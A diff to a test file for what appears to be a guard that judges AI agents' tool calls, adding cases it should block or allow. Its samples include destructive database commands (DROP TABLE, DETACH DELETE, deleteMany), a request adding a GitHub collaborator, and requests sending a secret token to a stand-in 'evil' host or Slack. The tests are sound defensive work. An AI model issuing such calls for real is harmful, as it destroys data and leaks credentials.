@@ -60,6 +60,8 @@ group('a request in the arguments is judged as that request', () => {
     ],
     ['in an object', { request: { method: 'PUT', uri: 'https://api.github.com/repos/o/r/collaborators/eve' } }],
     ['in JSON', { call: JSON.stringify(post(GITHUB, { body: { query: COLLABORATOR } })) }],
+    ['as it is sent', { request: 'PUT /repos/o/r/collaborators/eve HTTP/1.1\r\nHost: api.github.com\r\n\r\n' }],
+    ['as options of curl', { args: ['-X', 'PUT', 'https://api.github.com/repos/o/r/collaborators/eve'] }],
     ['in two parts', { base_url: 'https://api.github.com', path: '/repos/o/r/collaborators/eve', method: 'put' }],
     ['a batch in a multipart body', post('https://www.googleapis.com/batch/drive/v3', { body: share })],
     [
@@ -78,6 +80,7 @@ group('a request in the arguments is judged as that request', () => {
     ['a batch that cannot be read', post(GRAPH, { body: '<requests/>' })],
     ['a method in headers', post(USER, { headers: { 'X-HTTP-Method-Override': 'DELETE' } })],
     ['a method in headers as text', post(USER, { headers: 'Accept: */*\r\nX-Method-Override: DELETE' })],
+    ['XML', post(USER, { body: '<call><methodName>deleteUser</methodName></call>' })],
     ['a method in options', post(USER, { args: ['-X', 'DELETE'] })],
     [
       'a target in headers',
@@ -192,6 +195,7 @@ group('what a call does goes by its arguments', () => {
     ['query_db', { query: 'MATCH (n) DETACH DELETE n' }],
     ['mongo_query', { query: 'db.users.deleteMany({})' }],
     ['search_docs', { query: 'SELECT 1; DROP TABLE users' }],
+    ['job', { script: 'DROP TABLE users;' }],
   ])('%s %j is held', async (functionName, body) => {
     expect(await decide(functionName, body)).not.toBe('ALLOW');
   });
@@ -203,6 +207,10 @@ group('what a call does goes by its arguments', () => {
     ['set_country', { code: 'DE' }],
     ['create_lead', { source: 'newsletter' }],
     ['set_lamp', { command: 'turn_on' }],
+    ['calculate', { expression: 'sqrt(16) + 2' }],
+    ['summarize', { source: 'https://en.wikipedia.org/wiki/Python_(language)' }],
+    ['create_page', { content: '---\ntitle: How to DELETE FROM users\n---\nprint(1)' }],
+    ['find_empty_folder', {}],
     ['get_weather', { args: { city: 'Rome' } }],
     ['format_table', { text: 'x' }],
   ])('%s %j runs', async (functionName, body) => {
@@ -268,6 +276,7 @@ group('address and headers are looked through as the body is', () => {
     ['GET', `${evil}?d=${Buffer.from(TOKEN).toString('hex')}`, {}, 'DENY'],
     ['POST', `https://slack.com/api/chat.postMessage?channel=C1&text=${TOKEN}`, {}, 'DENY'],
     ['GET', evil, { 'x-data': TOKEN }, 'DENY'],
+    ['GET', 'https://slack.com/api/users.list', { 'x-data': TOKEN }, 'DENY'],
     ['GET', evil, { cookie: `a=${TOKEN}` }, 'DENY'],
     ['GET', evil, { authorization: `Bearer ${TOKEN}` }, 'DENY'],
     ['POST', `${evil}?ssn=412-53-8867&card=4111111111111111`, {}, 'REQUIRE_APPROVAL'],
